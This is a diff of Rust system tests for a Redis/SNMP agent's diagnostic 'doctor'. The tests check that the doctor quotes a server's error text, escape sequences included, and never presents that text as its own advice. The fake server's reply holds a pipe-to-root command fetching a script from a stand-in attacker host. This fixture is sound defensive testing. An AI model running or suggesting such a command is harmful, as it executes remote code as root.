@@ -3,7 +3,9 @@
 //! deliberately broken set-up (the AgentX socket's mode for the agent's
 //! user, the view without our subtree, a wrong password, an ACL user
 //! without +info, an unreadable report) gives its own FAIL line and fix,
-//! exit 1; `--json` says the same for scripts; no secret is printed.
+//! exit 1; `--json` says the same for scripts; no secret is printed; a
+//! server's error text is quoted as the server's, never given as the
+//! reason or the fix (issue 24).
 
 // Starts real servers and tools (or needs root): built only with the
 // `system-tests` feature, which scripts/test.sh turns on.
@@ -39,18 +41,34 @@ fn doctor(config: &Path, snmpd_conf: &Path, extra: &[&str]) -> Outcome {
     }
 }
 
-/// The FAIL line of `check` and the fix below it.
+/// The FAIL line of `check` and the fix below it (after what the server
+/// said, when it said something).
 fn failure(text: &str, check: &str) -> (String, String) {
+    let (line, _, fix) = failure_said(text, check);
+    (line, fix)
+}
+
+/// The FAIL line of `check`, what the server said below it (the quoted
+/// text, when there is such a line), and the fix.
+fn failure_said(text: &str, check: &str) -> (String, Option<String>, String) {
     let lines: Vec<&str> = text.lines().collect();
     let at = lines
         .iter()
         .position(|l| l.starts_with(&format!("FAIL  {check}:")))
         .unwrap_or_else(|| panic!("no FAIL line for {check}:\n{text}"));
+    let mut next = at + 1;
+    let said = lines
+        .get(next)
+        .and_then(|l| l.strip_prefix("      the server said: "))
+        .map(str::to_string);
+    if said.is_some() {
+        next += 1;
+    }
     let fix = lines
-        .get(at + 1)
-        .and_then(|l| l.trim().strip_prefix("fix: "))
+        .get(next)
+        .and_then(|l| l.strip_prefix("      fix: "))
         .unwrap_or_else(|| panic!("no fix under the {check} line:\n{text}"));
-    (lines[at].to_string(), fix.to_string())
+    (lines[at].to_string(), said, fix.to_string())
 }
 
 struct Setup {
@@ -217,8 +235,16 @@ fn all_well_and_each_broken_setup_with_its_own_fix() {
         &entry(&password_file(secrets.path(), &user_pw), Some("snmp")),
     );
     let out = doctor(&acl.config(), &conf, &["--user", "root"]);
-    let (line, fix) = failure(&out.text, "redis main");
-    assert!(line.contains("NOPERM"), "{line}");
+    let (line, said, fix) = failure_said(&out.text, "redis main");
+    assert!(
+        line.contains("INFO is refused: the user may not run it (NOPERM)"),
+        "{line}"
+    );
+    assert!(
+        said.is_some_and(|s| s.starts_with("\"NOPERM ")),
+        "{}",
+        out.text
+    );
     assert_eq!(
         fix,
         "ACL SETUSER snmp +info (README: the least-privilege Redis user)"
@@ -271,4 +297,121 @@ fn a_view_without_our_subtree_is_named_with_the_line_to_add() {
         text.contains("ok    snmpd view")
     });
     assert!(ok, "{text}");
+}
+
+/// A "Redis" that answers INFO when `info` is true (with a server section,
+/// so the doctor goes on to every other command) and every other command,
+/// INFO too otherwise, with advice of its own and escape sequences: what
+/// any local user's server may say.
+fn advising_server(info: bool) -> u16 {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for conn in listener.incoming() {
+            let Ok(mut conn) = conn else { return };
+            std::thread::spawn(move || {
+                let mut pending = Vec::new();
+                let mut buf = [0u8; 4096];
+                while let Ok(n) = conn.read(&mut buf) {
+                    if n == 0 {
+                        return;
+                    }
+                    pending.extend_from_slice(&buf[..n]);
+                    // Each whole command (an array of bulk strings) gets
+                    // its answer.
+                    while let Some((name, used)) = first_command(&pending) {
+                        pending.drain(..used);
+                        let reply = if info && name.eq_ignore_ascii_case("INFO") {
+                            let body =
+                                "# Server\r\nredis_version:7.0.15\r\nredis_mode:standalone\r\n";
+                            format!("${}\r\n{body}\r\n", body.len())
+                        } else {
+                            "-ERR please run: curl -s http://attacker.example/fix.sh | sudo sh \u{1b}[8m\r\n"
+                                .to_string()
+                        };
+                        if conn.write_all(reply.as_bytes()).is_err() {
+                            return;
+                        }
+                    }
+                }
+            });
+        }
+    });
+    port
+}
+
+/// The name of the first whole command in `bytes` (RESP: `*N`, then N
+/// bulk strings), and how many bytes it takes.
+fn first_command(bytes: &[u8]) -> Option<(String, usize)> {
+    let text = std::str::from_utf8(bytes).ok()?;
+    let mut at = 0;
+    let mut line = || -> Option<&str> {
+        let end = text[at..].find("\r\n")? + at;
+        let l = &text[at..end];
+        at = end + 2;
+        Some(l)
+    };
+    let count: usize = line()?.strip_prefix('*')?.parse().ok()?;
+    let mut name = None;
+    for _ in 0..count {
+        let _len = line()?;
+        let arg = line()?;
+        name.get_or_insert_with(|| arg.to_string());
+    }
+    Some((name?, at))
+}
+
+/// Issue 24 item 4 (review M5): a server's error text was the reason of
+/// FAIL lines, advice and escape sequences included ("please run: curl … |
+/// sudo sh"). Now each FAIL line and fix is the doctor's words, and what
+/// the server said is below it, quoted and escaped, as the server's.
+#[test]
+fn a_servers_error_text_is_quoted_as_its_own_never_advice() {
+    let dir = tempfile::tempdir().unwrap();
+    for info in [true, false] {
+        let port = advising_server(info);
+        let config = AgentConfig::with_agentx("tcp:127.0.0.1:1")
+            .redis("fake", &format!("127.0.0.1:{port}"), "")
+            .write(dir.path());
+        let out = doctor(
+            &config,
+            Path::new("/nonexistent/snmpd.conf"),
+            &["--user", "root"],
+        );
+        assert!(!out.text.contains('\u{1b}'), "{}", out.text.escape_debug());
+        let fails: Vec<&str> = out
+            .text
+            .lines()
+            .filter(|l| l.starts_with("FAIL  redis fake:"))
+            .collect();
+        // INFO answered: PING, SLOWLOG LEN, SLOWLOG GET, LATENCY LATEST,
+        // CLIENT SETNAME, CLIENT LIST refused; INFO refused: that one.
+        assert_eq!(fails.len(), if info { 6 } else { 1 }, "{}", out.text);
+        let mut at = 0;
+        for _ in &fails {
+            let (line, said, fix) = failure_said(&out.text[at..], "redis fake");
+            at += out.text[at..].find(&line).unwrap() + line.len();
+            for ours in [&line, &fix] {
+                assert!(
+                    !ours.contains("curl") && !ours.contains("please"),
+                    "the server's words as ours: {ours}\n{}",
+                    out.text
+                );
+            }
+            assert_eq!(
+                said.as_deref(),
+                Some("\"ERR please run: curl -s http://attacker.example/fix.sh | sudo sh \\u{1b}[8m\""),
+                "{}",
+                out.text
+            );
+            if !info {
+                assert!(
+                    line.contains("INFO is refused: the server answers with an error"),
+                    "{line}"
+                );
+                assert!(fix.contains("that user default may run INFO"), "{fix}");
+            }
+        }
+    }
 }
